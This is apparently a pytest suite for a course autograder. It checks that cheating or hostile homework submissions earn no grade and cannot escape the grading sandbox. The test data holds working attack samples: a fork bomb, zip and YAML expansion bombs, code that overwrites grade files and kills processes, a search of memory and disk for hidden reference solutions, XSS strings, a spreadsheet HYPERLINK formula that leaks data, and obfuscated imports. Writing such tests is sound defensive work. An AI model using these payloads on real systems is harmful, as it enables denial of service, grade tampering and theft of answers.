"""A class in which everybody but two is out for a grade that they do not deserve, or for somebody else's: graded for real.

What each of them gets is what their work deserves, the two honest ones are untouched, and nothing is left behind.
"""

import csv
import io
import json
import os
import struct
import time
import zipfile
from pathlib import Path
from textwrap import indent

import numpy as np
import pytest

from course_utils.exercises import exercises
from course_utils.exercises.specification import Call
from course_utils.grading import cases, grade_one
from course_utils.grading.assignments import Assignment, assignment
from course_utils.grading.case_runs import run_case
from course_utils.grading.forbidden import Findings, search
from course_utils.grading.grade_class import Settings, grade_class
from course_utils.grading.lateness import LatePolicy, moment
from course_utils.grading.results import GRADED, NOT_ATTEMPTED, NOTHING, STOPPED, UNREADABLE, WRONG
from course_utils.grading.roster import Student
from course_utils.grading.sandbox import Worker, sandbox_problem
from course_utils.grading.submission import read
from tests.grading import hostile
from tests.grading.notebooks_made import markdown, notebook

pytestmark = pytest.mark.skipif(bool(sandbox_problem()), reason=sandbox_problem())

SOLUTION = Path(__file__).parents[2] / "solutions" / "hw1_convolution_and_pooling"
DUE = moment("2026-01-10T12:00+00:00")
DAY = 86_400
NAMES = (
    "conv2d_forward",
    "conv2d_backward",
    "max_pool2d_forward",
    "max_pool2d_backward",
    "conv_transpose2d_forward",
)
TURNED = "## turned-kernel\n\n"


def everywhere(body, before=""):
    """A notebook in which each exercise is answered by the same code, which finds what it is given in `given`."""
    lines = "\n".join(f"    {line}" for line in body.strip().split("\n"))
    code = f"import numpy as np\n{before}\ndef attack(given):\n{lines}\n"
    return notebook(code, *(f"def {name}(*given, **named):\n    return attack((given, named))" for name in NAMES))


def archive(*entries):
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as file:
        for name, data, *when in entries:
            info = zipfile.ZipInfo(name, *when)
            info.compress_type = zipfile.ZIP_DEFLATED
            file.writestr(info, data)
    return content.getvalue()


def endless_list():
    """An archive of nothing but a list of a million files."""
    entry = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 0, 0, 33, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"."
    listed = entry * 1_000_000
    return listed + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, len(listed), 0, 0)


def growing_header():
    """A script whose header in YAML stands for 10**12 words."""
    rows = ["#   a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    rows += [f"#   a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 12)]
    return "\n".join(["# ---", "# jupyter:", *rows, "# ---", "# %%", "conv2d_forward = 1", ""]).encode()


SEARCH = """
import gc, os, sys
found = [frame for frame in iter_frames()] + gc.get_objects()
for one in found:
    for name in ("expected", "reference", "right", "twins"):
        value = one.get(name) if type(one) is dict else getattr(one, name, None)
        if callable(value) and type(value) is type(iter_frames):
            return value(*given[0], **given[1])
for folder in ("/course", "/tmp", "/work", "/root", "/home"):
    for top, _, files in os.walk(folder):
        for file in files:
            if "conv" in file or "grad" in file or "solution" in file or file == "run.json":
                return open(os.path.join(top, file)).read()
import course_utils.layers
return getattr(course_utils.layers, "conv2d_forward")(*given[0], **given[1])
"""
FRAMES = """
import sys

def iter_frames():
    frame = sys._getframe()
    while frame:
        yield frame.f_locals
        frame = frame.f_back
"""
BURNERS = """
import os
for n in range(60):
    try:
        if os.fork() == 0:
            os.setsid()
            while True: pass
    except OSError:
        break
while True: pass
"""
TAMPER = """
import glob, os
for path in ["OUT/run.json", "OUT/students/ada.json", "OUT/grades.csv", "INBOX/ada/hw1.ipynb"]:
    try:
        with open(path, "w") as file:
            file.write('{"earned": 100}')
    except OSError:
        pass
os.kill(-1, 9)
"""
SCRIPT = '<script>alert(1)</script>"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"grade")'

# By the student's id: the file's name, what is in it, and the status of the submission and of the first item.
ATTACKS = {
    "yaml": ("hw1.py", growing_header(), GRADED, WRONG),
    "digits": ("hw1.zip", archive(("9" * 5_000 + ".ipynb", notebook("x = 1"))), UNREADABLE, None),
    "listed": ("hw1.zip", archive(*((f"{n}.zip", endless_list()) for n in range(3))), UNREADABLE, None),
    "namesakes": ("hw1.zip", archive(("ada " * 15_000 + ".ipynb", notebook("x = 1"))), UNREADABLE, None),
    "brackets": ("hw1.ipynb", b"[" * 5_000_000, UNREADABLE, None),
    "blanks": (
        "hw1.ipynb",
        notebook(*["(\n" + "\n" * 99_000] * 4, markdown(TURNED + "\n" * 90_000, id="written-turned-kernel")),
        GRADED,
        NOT_ATTEMPTED,
    ),
    "spaces": ("hw1.ipynb", notebook(*["(\n" + " " * 99_000] * 4), GRADED, NOT_ATTEMPTED),
    "arrays": (
        "hw1.ipynb",
        notebook("import numpy as np\ndef conv2d_forward(*a, **k): return np.zeros((1000, 3000)), 1"),
        GRADED,
        WRONG,
    ),
    "exits": ("hw1.ipynb", everywhere("import os\nos._exit(0)"), GRADED, STOPPED),
    "forger": (
        "hw1.ipynb",
        everywhere("one = reply({'out': 1, 'cache': 1})\nsend(one)\nsend(one)", hostile.THIEF),
        GRADED,
        STOPPED,
    ),
    "burner": (
        "hw1.ipynb",
        notebook(f"def conv2d_forward(*a, **k):\n{indent(BURNERS, '    ')}"),
        GRADED,
        STOPPED,
    ),
    "searcher": ("hw1.ipynb", everywhere(SEARCH, FRAMES), GRADED, WRONG),
    "tamperer": ("hw1.ipynb", everywhere(TAMPER), GRADED, WRONG),
    "daemon": (
        "hw1.ipynb",
        everywhere("return daemon()", hostile.DAEMON.replace("def attack", "def daemon").format(ending="return 1")),
        GRADED,
        WRONG,
    ),
    "script": (
        "hw1.ipynb",
        notebook(
            f"def conv2d_forward(*a, **k):\n    print({SCRIPT!r})\n    raise ValueError({SCRIPT!r})",
            f"class max_pool2d_forward: __name__ = {SCRIPT!r}",
            f"{SCRIPT} (",
            markdown(TURNED + SCRIPT),
        ),
        GRADED,
        WRONG,
    ),
    "formula": ("hw1.ipynb", notebook("x = 1", markdown(TURNED + FORMULA)), GRADED, NOT_ATTEMPTED),
    "early": ("hw1.zip", archive(("hw1.ipynb", notebook("x = 1"), (2020, 1, 1, 0, 0, 0))), GRADED, NOT_ATTEMPTED),
}
# Files in nobody's folder, or in one's own, that are to count as Ada's.
AS_ADA = {
    "zoe/hw1.ipynb": notebook("x = 1", metadata={"student": "ada"}),
    "Zoe Zed_99_assignsubmission_file_/ada.ipynb": notebook("x = 1"),
    "exits/ada.ipynb": notebook("x = 1"),
    "\x1b[2J\x1b]0;x\x07.ipynb": notebook("x = 1"),
}


class Graded:
    """The class after it was graded."""

    def __init__(self, folder):
        self.inbox, self.out = folder / "inbox", folder / "grades"
        self.hand_in("ada/hw1.ipynb", SOLUTION.with_suffix(".ipynb").read_bytes())
        self.hand_in("bob/hw1.py", SOLUTION.with_suffix(".py").read_bytes())
        for student, (name, content, *_) in ATTACKS.items():
            places = {b"OUT": str(self.out).encode(), b"INBOX": str(self.inbox).encode()}
            for word, place in places.items():
                content = content.replace(word, place) if student == "tamperer" else content
            self.hand_in(f"{student}/{name}", content, 3 * DAY if student == "early" else -DAY)
        for name, content in AS_ADA.items():
            self.hand_in(name, content, -60)
        self.before = self.files()
        roster = [Student(one, f"{one.title()} Student") for one in ("ada", "bob", *ATTACKS, "carol")]
        policy = LatePolicy(DUE, per_day=10.0)
        began = time.monotonic()
        self.report = grade_class(
            [self.inbox], assignment("hw1"), roster, self.out, Settings(seed=3, policy=policy, workers=2)
        )
        self.seconds = time.monotonic() - began
        self.results = {result.student: result for result in self.report.results}

    def hand_in(self, name, content, after_due=-DAY):
        path = self.inbox / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
        os.utime(path, (DUE.timestamp() + after_due,) * 2)

    def files(self):
        return {path: path.read_bytes() for path in self.inbox.rglob("*") if path.is_file()}


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    return Graded(tmp_path_factory.mktemp("class"))


@pytest.mark.parametrize("student", ATTACKS)
def test_an_attack_earns_nothing(graded, student):
    result, (*_, status, first) = graded.results[student], ATTACKS[student]
    assert result.status == status, result
    assert not result.earned and all(not item.earned for item in result.items), result.items
    if first:
        assert result.items[0].status == first, result.items[0]


def test_the_honest_have_what_they_deserve(graded):
    for student, file in (("ada", "hw1.ipynb"), ("bob", "hw1.py")):
        result = graded.results[student]
        assert Path(result.file).parts[-2:] == (student, file)
        assert [item.earned for item in result.items if item.earned is not None] == [20, 25, 10, 15, 20], result
        assert result.late == 0
    assert graded.results["carol"].status == NOTHING


def test_nothing_is_written_elsewhere_and_nothing_left_running(graded):
    assert graded.files() == graded.before
    kept = json.loads((graded.out / "students" / "ada.json").read_text())
    assert kept["result"]["student"] == "ada"
    comms = [path.read_text(errors="replace").strip() for path in Path("/proc").glob("[0-9]*/comm") if path.exists()]
    assert hostile.MARK not in comms
    assert graded.seconds < 60


def test_no_file_counts_as_another_students(graded):
    left = {*graded.report.unmatched, *(place for place, _ in graded.report.ambiguous)}
    assert len(left) == len(AS_ADA), left
    assert all(place.isprintable() for place in left)
    assert not graded.report.problems


def test_a_time_in_ones_own_archive_does_not_count(graded):
    assert graded.results["early"].late == 3


def test_pages_and_tables_show_it_as_text(graded):
    page = (graded.out / "feedback" / "script.html").read_text(encoding="utf-8")
    assert "alert(1)" in page and "<script" not in page and "<img" not in page
    for path in graded.out.glob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as file:
            assert not [cell for row in csv.reader(file) for cell in row if cell.startswith(("=", "@", "+"))]
    assert "HYPERLINK" in (graded.out / "by_hand.csv").read_text(encoding="utf-8-sig")


def test_no_feedback_tells_the_seed(graded):
    for path in (graded.out / "feedback").glob("*.json"):
        assert "seed" not in json.loads(path.read_text())
    # Nor can it be found by trying.
    seeds = [cases.new_seed() for _ in range(20)]
    assert max(seeds) > 1 << 56 and len(set(seeds)) == 20


def test_who_only_raises_the_error_that_some_cases_ask_for_has_nothing(tmp_path):
    path = tmp_path / "hw2.ipynb"
    names = [item.name for item in assignment("hw2").items]
    path.write_bytes(notebook(*(f"def {name}(*a, **k): raise ValueError" for name in names)))
    result = grade_one.grade(path, assignment("hw2"), "ada", seed=3)
    assert result.earned == 0
    assert any(case.what for item in result.items for case in item.cases if "whatever it is given" in case.what)


def test_of_far_too_large_an_array_the_form_alone_is_kept():
    exercise, plan = exercises()["conv2d_forward"], cases.parts("conv2d_forward")
    with Worker(
        assignment("hw1"), ["import numpy as np\ndef conv2d_forward(*a, **k): return np.ones((900, 900)), 1"]
    ) as worker:
        run = run_case(exercise, plan, cases.prepared("conv2d_forward", 0, 3)[0], worker, 5.0)
    kept = run.outcome.results["out"]
    assert (kept.shape, kept.dtype, kept.strides) == ((900, 900), np.float64, (0, 0))


@pytest.mark.parametrize("blank", ["\n", " ", "\t\n", "# \n", "\u3000"])
def test_much_of_nothing_is_soon_read(blank):
    text = blank * (90_000 // len(blank))
    began = time.process_time()
    found = read(
        notebook(markdown(TURNED + text), f"(\n{text}", markdown(text, id="written-turned-kernel")), "hw1.ipynb"
    )
    assert not found.written("turned-kernel").strip("# \n\u3000") and not found.unread("conv2d_forward")
    assert time.process_time() - began < 2


def test_a_script_has_its_header_left_out_and_its_cells_and_names_read():
    text = '# ---\n# jupyter: {a: [1]}\n# ---\n\n# %% [markdown] id="why"\n# ## Why\n#\n# Because.\n# %% {"id": "work"}\na = 1\n'
    text += '# %% [raw]\nnothing\n#%%\n"""a text"""\n# %%time\n# %% [md]\n"""\nMore.\n"""\n'
    found = read(text.encode(), "hw1.py")
    assert [(cell.kind, cell.source, set(cell.names)) for cell in found.cells] == [
        ("markdown", "## Why\n\nBecause.", {"why"}),
        ("code", "a = 1", {"work"}),
        ("code", '"""a text"""\n# %%time', set()),
        ("markdown", "More.", set()),
    ]


HIDDEN = {
    "a name that only exec makes": ('exec("from torch.hub import load as secret")', "return secret()"),
    "a name that only globals() has": ('import torch\nglobals()["secret"] = torch.hub', "return secret.load()"),
    "the package in a list": ("import torch\nkept = [torch][0]", "return kept.hub.load()"),
    "the package as an argument": ("import torch", "return (lambda one: one.hub)(torch)"),
    "the package matched": ("import torch", "match torch:\n        case object(hub=found): return found"),
    "inspected": ("import inspect, torch", 'return dict(inspect.getmembers(torch))["h" + "ub"]'),
    "asked for an attribute": ("import torch", 'return torch.__getattribute__("hub")'),
}


@pytest.mark.parametrize("name", HIDDEN)
def test_a_forbidden_thing_without_its_name_is_for_a_person_to_look_at(name):
    before, body = HIDDEN[name]
    code = read(notebook(before, f"def Work(*given):\n    {body}"), "hw4.ipynb").code
    found = search(code, "Work", ("torch.hub", "torchvision"))
    assert found.uses or found.doubtful


def test_what_is_usual_is_no_cause_for_doubt():
    body = (
        "try:\n        return [torch.relu(one) for one in given]\n    except TypeError as error:\n        raise error"
    )
    code = read(notebook("import torch\nfrom torch import nn", f"def Work(*given):\n    {body}"), "hw4.ipynb").code
    assert search(code, "Work", ("torch.hub", "torchvision")) == Findings()


SMALL = Assignment("hw", "", "", (), seconds=20.0, memory=100 << 20)


def asked(code, seconds):
    with Worker(SMALL, [code]) as worker:
        worker.start()
        return worker.call((Call("attack", (), ("y",)),), {}, ("y",), seconds)


def test_files_without_content_count_as_memory():
    reply = asked(
        "import os\ndef attack():\n    n = 0\n    while True:\n"
        "        os.close(os.open(f'/tmp/{n}', os.O_CREAT))\n        n += 1",
        15.0,
    )
    assert reply.stopped == "memory"


@pytest.mark.parametrize("name", ["inotify_init1(0)", "inotify_init()", "fanotify_init(0, 0)"])
def test_no_memory_of_the_system_by_watching_files(name):
    code = f"import ctypes\ndef attack():\n    c = ctypes.CDLL(None, use_errno=True)\n    return c.{name}, ctypes.get_errno()"
    assert asked(code, 5.0).results == {"y": (-1, 1)}


def test_too_many_at_work_at_once_are_stopped():
    reply = asked(f"def attack():\n{indent(BURNERS, '    ')}", 15.0)
    assert reply.stopped == "processes"
